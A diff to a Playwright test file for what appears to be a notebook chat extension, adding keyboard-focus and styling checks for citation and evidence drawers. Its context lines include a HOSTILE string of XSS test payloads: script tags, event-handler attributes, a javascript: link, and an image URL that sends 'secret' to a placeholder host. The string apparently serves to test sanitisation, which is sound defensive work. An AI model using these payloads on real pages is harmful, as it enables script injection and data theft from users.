@@ -14,7 +14,7 @@ from tests.servers.openai import OpenAIServer
 from tests.servers.turns import Call, Hang, Pause, Say, Think
 from tests.servers.wire import Recorded, WireServer
 
-expect.set_options(timeout=30_000)  # a kernel that starts beside others takes its time
+expect.set_options(timeout=90_000)  # on a busy machine a first answer takes half a minute
 HOSTILE = """**Harmless** <script>window.hit = 1</script> <img src=x onerror="window.hit = 2">
 ![leak](http://192.0.2.1/leak?secret) [go](javascript:window.hit=3) <svg onload="window.hit=4"></svg>
 <iframe src="http://192.0.2.1/frame"></iframe> <style>body { display: none }</style> [ok](https://kubernetes.io/)
@@ -168,6 +168,8 @@ def test_an_open_chat_is_talked_to_while_no_cell_runs(
     expect(chat.locator(".kx-code .kx-tools")).to_be_visible()
     expect(chat.locator(".kx-answer pre")).to_have_css("padding-top", "8px")  # whatever the frontend says of a pre
     assert book.page.locator(".jp-CodeCell").count() == 2
+    expect(chat.locator(".kx-answer pre")).to_have_css("padding-left", "10px")  # whatever an output's pre looks like
+    expect(chat.locator(".kx-answer th").first).to_have_css("text-align", "left")
     chat.locator(".kx-answer .kx-cite").click()
     drawer = book.page.get_by_label("Evidence", exact=True)
     expect(drawer).to_contain_text("checkout")
@@ -175,6 +177,17 @@ def test_an_open_chat_is_talked_to_while_no_cell_runs(
     book.shot(f"chat-open-{theme}")
     book.page.keyboard.press("Escape")
     expect(chat.locator(".kx-answer .kx-cite")).to_be_focused()
+    for key in ("Enter", "Space"):  # and by keyboard
+        chat.locator(".kx-answer .kx-cite").press(key)
+        expect(drawer.locator(".kx-close")).to_be_focused()
+        book.page.keyboard.press("Enter")
+        expect(drawer).to_be_hidden()
+    found = chat.locator("details", has=book.page.locator(".kx-finding")).first
+    found.locator("summary").press("Enter")
+    found.locator(".kx-finding").first.press("Enter")
+    expect(drawer.locator(".kx-piece").first).to_contain_text("checkout")
+    book.page.keyboard.press("Escape")
+    expect(found.locator(".kx-finding").first).to_be_focused()
     chat.locator(".kx-suggestion").first.click()
     expect(chat.locator(".kx-answer").last).to_contain_text("Because nobody set it.")
     expect(chat.locator(".kx-pill")).to_have_text("ready")
